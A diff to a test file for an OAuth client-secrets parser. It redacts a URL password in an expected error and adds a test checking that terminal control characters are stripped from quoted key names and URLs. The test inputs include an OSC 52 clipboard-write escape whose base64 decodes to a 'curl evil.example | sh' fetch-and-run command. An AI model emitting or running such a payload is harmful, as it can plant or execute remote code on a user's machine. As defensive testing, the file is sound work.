@@ -168,8 +168,23 @@ describe('parseClientSecrets: every problem reported at once, by field', () => {
       }),
     ).toEqual([
       '"installed.auth_uri" must be a string, got a number',
-      '"installed.token_uri" must not contain credentials or a fragment, got "https://user:pass@oauth2.googleapis.com/token#x"',
+      // The password is a secret: never repeated.
+      '"installed.token_uri" must not contain credentials or a fragment, got "https://hidden@oauth2.googleapis.com/token#x"',
     ]);
+  });
+
+  it('quotes key names and addresses from the file without the characters that drive a terminal', () => {
+    const clearScreen = '\u001b[2J';
+    const clipboard = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
+    expect(problemsOf({ [`web${clearScreen}`]: {}, [`x\u202e${clipboard}`]: 1 })).toEqual([
+      'expected a top-level "installed" (Desktop app) or "web" key; found "web [2J", "x  ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== "',
+    ]);
+    const [problem] = problemsOf({
+      installed: { ...installed, auth_uri: `ht\u2028tp://evil.example/${clipboard}` },
+    });
+    expect(problem).toBe(
+      '"installed.auth_uri" must be an https URL, got "ht tp://evil.example/ ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== "',
+    );
   });
 
   it('reports an "installed" key that holds no object', () => {
